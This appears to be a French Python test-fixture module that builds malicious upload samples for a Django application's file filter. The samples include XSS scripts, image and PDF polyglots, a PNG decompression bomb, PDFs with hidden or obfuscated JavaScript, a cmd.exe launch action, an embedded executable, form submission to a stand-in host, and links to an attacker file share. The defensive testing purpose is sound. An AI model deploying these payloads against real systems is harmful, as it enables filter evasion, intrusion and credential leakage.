"""Fabrique en mémoire des fichiers d'exemple pour les tests de dépôt (aucun fichier binaire versionné).

Chaque fonction renvoie des octets ; `televerse()` les enveloppe dans un `UploadedFile` comme en reçoit
un formulaire Django. Utilisable par tous les tests (déclarations, demandes des usagers, navigateur).
"""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import ExifTags, Image

# Coordonnées d'exemple (place Vendôme) : elles ne doivent jamais survivre au dépôt.
GPS_EXEMPLE = {
    ExifTags.GPS.GPSLatitudeRef: "N",
    ExifTags.GPS.GPSLatitude: (48.0, 52.0, 2.0),
    ExifTags.GPS.GPSLongitudeRef: "E",
    ExifTags.GPS.GPSLongitude: (2.0, 19.0, 46.0),
}
XMP_EXEMPLE = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="48,52.03N"/>'
    b"</rdf:RDF></x:xmpmeta>"
)
CHARGE_HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"


def televerse(nom, contenu, type_mime="application/octet-stream"):
    """Un fichier tel que reçu par un formulaire (le type annoncé par le client est sans valeur)."""
    return SimpleUploadedFile(nom, contenu, content_type=type_mime)


def image_deux_couleurs(largeur=64, hauteur=48, mode="RGB"):
    """Moitié gauche rouge, moitié droite bleue : permet de vérifier l'orientation."""
    image = Image.new("RGB", (largeur, hauteur), (220, 0, 0))
    image.paste((0, 0, 220), (largeur // 2, 0, largeur, hauteur))
    return image.convert(mode)


def exif_avec_gps(orientation=None):
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Téléphone"
    exif[ExifTags.Base.Model] = "Modèle 12"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    exif.get_ifd(ExifTags.IFD.GPSInfo).update(GPS_EXEMPLE)
    return exif


def jpeg(largeur=64, hauteur=48, *, gps=False, orientation=None, commentaire=None, xmp=False):
    parametres = {"quality": 90}
    if gps or orientation:
        exif = exif_avec_gps(orientation) if gps else Image.Exif()
        if orientation:
            exif[ExifTags.Base.Orientation] = orientation
        parametres["exif"] = exif
    if commentaire:
        parametres["comment"] = commentaire
    if xmp:
        parametres["xmp"] = XMP_EXEMPLE
    sortie = io.BytesIO()
    image_deux_couleurs(largeur, hauteur).save(sortie, "JPEG", **parametres)
    return sortie.getvalue()


def png(largeur=64, hauteur=48, mode="RGB", *, texte=None, gps=False):
    from PIL import PngImagePlugin

    parametres = {}
    if texte:
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", texte)
        parametres["pnginfo"] = info
    if gps:
        parametres["exif"] = exif_avec_gps()
    sortie = io.BytesIO()
    image_deux_couleurs(largeur, hauteur, mode).save(sortie, "PNG", **parametres)
    return sortie.getvalue()


def heic(largeur=64, hauteur=48, *, gps=False):
    """Photo HEIC comme celles des iPhone, encodée avec pillow-heif."""
    import pillow_heif

    parametres = {"quality": 85}
    if gps:
        parametres["exif"] = exif_avec_gps().tobytes()
    sortie = io.BytesIO()
    pillow_heif.from_pillow(image_deux_couleurs(largeur, hauteur)).save(sortie, **parametres)
    return sortie.getvalue()


def zip_contenant(nom="charge.class", contenu=b"\xca\xfe\xba\xbe"):
    sortie = io.BytesIO()
    with zipfile.ZipFile(sortie, "w") as archive:
        archive.writestr(nom, contenu)
    return sortie.getvalue()


def jpeg_polyglotte_html():
    """JPEG valide suivi, après le marqueur de fin EOI, d'une page HTML avec un script."""
    return jpeg() + CHARGE_HTML


def jpeg_polyglotte_zip():
    """Façon « GIFAR » : JPEG valide + archive ZIP/JAR accolée (lisible comme ZIP par la fin)."""
    return jpeg() + zip_contenant()


def png_polyglotte_html():
    return png() + CHARGE_HTML


def _bloc_png(type_bloc, donnees):
    return struct.pack(">I", len(donnees)) + type_bloc + donnees + struct.pack(">I", zlib.crc32(type_bloc + donnees))


def _zlib_zeros(total):
    """Flux zlib de `total` octets nuls, fabriqué vite : un bloc compressé répété (vidage complet entre blocs)."""
    bloc = bytes(1 << 20)
    compresseur = zlib.compressobj(9, zlib.DEFLATED, -15)
    morceau = compresseur.compress(bloc) + compresseur.flush(zlib.Z_FULL_FLUSH)
    pleins, reste = divmod(total, len(bloc))
    somme = 1
    for _ in range(pleins):
        somme = zlib.adler32(bloc, somme)
    somme = zlib.adler32(bytes(reste), somme)
    fin = compresseur.compress(bytes(reste)) + compresseur.flush()
    return b"\x78\xda" + morceau * pleins + fin + struct.pack(">I", somme)


def png_bombe(largeur, hauteur):
    """PNG 1 bit de dimensions énormes, entièrement noir : quelques Ko compressés, des centaines de Mo décodés."""
    octets_par_ligne = 1 + (largeur + 7) // 8
    en_tete = struct.pack(">IIBBBBB", largeur, hauteur, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _bloc_png(b"IHDR", en_tete)
        + _bloc_png(b"IDAT", _zlib_zeros(octets_par_ligne * hauteur))
        + _bloc_png(b"IEND", b"")
    )


# --- Faux documents ----------------------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><head><title>x</title></head><body><script>alert(1)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script><rect width='10' height='10'/></svg>"
)
TEXTE = "Procès-verbal d'intervention\nNuméro de procédure : 2024/123\n".encode()
EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(200)
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"


def jpeg_tronque():
    donnees = jpeg(256, 256)
    return donnees[: len(donnees) // 2]


# --- PDF ---------------------------------------------------------------------------------------


def _ecrire(writer):
    sortie = io.BytesIO()
    writer.write(sortie)
    return sortie.getvalue()


def _writer_une_page():
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def pdf_simple():
    return _ecrire(_writer_une_page())


def pdf_sans_page():
    from pypdf import PdfWriter

    return _ecrire(PdfWriter())


def pdf_chiffre(mot_de_passe="secret"):
    """Chiffré (avec un mot de passe d'ouverture, ou vide : restrictions seulement)."""
    writer = _writer_une_page()
    writer.encrypt(user_password=mot_de_passe, owner_password="proprietaire", algorithm="AES-128")
    return _ecrire(writer)


def _action_js(code="app.alert('x');"):
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def pdf_javascript_ouverture():
    """/OpenAction du catalogue : JavaScript exécuté à l'ouverture."""
    from pypdf.generic import NameObject

    writer = _writer_une_page()
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(_action_js())
    return _ecrire(writer)


def pdf_javascript_noms():
    """JavaScript de niveau document (arbre de noms /Names /JavaScript)."""
    from pypdf.actions import JavaScript

    writer = _writer_une_page()
    writer.add_open_action(JavaScript("app.alert('x');"))
    return _ecrire(writer)


def pdf_javascript_page():
    """Action additionnelle (/AA) d'une page, déclenchée à son ouverture."""
    from pypdf.generic import DictionaryObject, NameObject

    writer = _writer_une_page()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(_action_js())})
    return _ecrire(writer)


def pdf_lancement():
    """Action /Launch : lance un programme externe."""
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = _writer_une_page()
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _ecrire(writer)


def pdf_fichier_joint(nom="programme.exe", contenu=EXECUTABLE):
    writer = _writer_une_page()
    writer.add_attachment(nom, contenu)
    return _ecrire(writer)


def pdf_objets_bruts(objets, racine=1):
    """PDF écrit à la main (objets numérotés à partir de 1) avec une table des références exacte."""
    sortie = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    positions = []
    for numero, corps in enumerate(objets, start=1):
        positions.append(len(sortie))
        sortie += f"{numero} 0 obj\n".encode() + corps + b"\nendobj\n"
    debut_xref = len(sortie)
    sortie += f"xref\n0 {len(objets) + 1}\n0000000000 65535 f \n".encode()
    for position in positions:
        sortie += f"{position:010d} 00000 n \n".encode()
    sortie += f"trailer\n<< /Size {len(objets) + 1} /Root {racine} 0 R >>\nstartxref\n{debut_xref}\n%%EOF\n".encode()
    return bytes(sortie)


_PAGES_BRUTES = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


def pdf_brut_simple():
    return pdf_objets_bruts(_PAGES_BRUTES)


def pdf_javascript_nom_masque():
    """/OpenAction avec des noms échappés (/J#61vaScript, /J#53) pour tromper une recherche naïve."""
    return pdf_objets_bruts(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *_PAGES_BRUTES[1:],
            b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
        ]
    )


def pdf_javascript_indirect():
    """Le type d'action est une référence indirecte vers le nom /JavaScript, le code est un flux."""
    code = b"app.alert(1);"
    return pdf_objets_bruts(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            *_PAGES_BRUTES[1:],
            b"<< /S 5 0 R /JS 6 0 R >>",
            b"/JavaScript",
            b"<< /Length %d >>\nstream\n" % len(code) + code + b"\nendstream",
        ]
    )


def pdf_javascript_orphelin():
    """Objet JavaScript présent dans la table des références mais rattaché à rien."""
    return pdf_objets_bruts([*_PAGES_BRUTES, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"])


def pdf_xfa():
    """Formulaire dynamique XFA (peut porter des scripts)."""
    return pdf_objets_bruts(
        [
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R >>",
            *_PAGES_BRUTES[1:],
            b"<< /Fields [] /XFA (<xdp:xdp/>) >>",
        ]
    )


def pdf_tronque():
    donnees = pdf_simple()
    return donnees[: len(donnees) // 2]


def pdf_corrompu():
    """En-tête PDF valide, puis n'importe quoi."""
    return b"%PDF-1.7\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"


def pdf_polyglotte_zip():
    """PDF valide suivi d'une archive ZIP (fichier lisible à la fois comme PDF et comme ZIP)."""
    return pdf_simple() + zip_contenant()


# --- Fichiers coûteux (issue 11, item 3) et trous du filtre PDF ----------------------------------


def pdf_pages(nombre, *, count_annonce=None):
    """PDF écrit à la main de `nombre` pages qui partagent un même contenu : ~120 octets par page.

    20 000 pages font ~2,4 Mo, comme le fichier de l'essai (2,2 Mo). `count_annonce` remplace le /Count
    de l'arbre des pages (un fichier forgé peut mentir).
    """
    contenu = b"BT /F1 12 Tf 72 720 Td (Page) Tj ET"
    count = nombre if count_annonce is None else count_annonce
    kids = " ".join(f"{4 + i} 0 R" for i in range(nombre)).encode()
    objets = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
        b"<< /Length %d >>\nstream\n" % len(contenu) + contenu + b"\nendstream",
    ]
    objets += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * nombre
    return pdf_objets_bruts(objets)


def pdf_avec_action(action):
    """PDF d'une page dont l'ouverture déclenche `action` (dictionnaire PDF brut)."""
    return pdf_objets_bruts([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_PAGES_BRUTES[1:], action])


def pdf_lien_page(action):
    """PDF d'une page portant une annotation de lien vers `action` (clic de l'agent)."""
    return pdf_objets_bruts(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            _PAGES_BRUTES[1],
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 5 0 R >>",
            action,
        ]
    )


PDF_ENVOI_FORMULAIRE = b"<< /S /SubmitForm /F << /FS /URL /F (https://collecte.example/recevoir) >> >>"
PDF_OUVERTURE_PARTAGE_RESEAU = b"<< /S /GoToR /F (\\\\\\\\serveur-pirate\\\\partage\\\\piege.pdf) /D [0 /Fit] >>"
PDF_LIEN_FICHIER_LOCAL = b"<< /S /URI /URI (file://serveur-pirate/partage/piege.pdf) >>"
PDF_LIEN_WEB = b"<< /S /URI /URI (https://www.service-public.fr/) >>"
FACTURX_XML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>'
)


def pdf_avec_eicar():
    """PDF valide dont le contenu de page porte la chaîne de test EICAR (faux virus standard)."""
    from tests.clamav import EICAR

    return pdf_objets_bruts(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            _PAGES_BRUTES[1],
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n" % len(EICAR) + EICAR + b"\nendstream",
        ]
    )
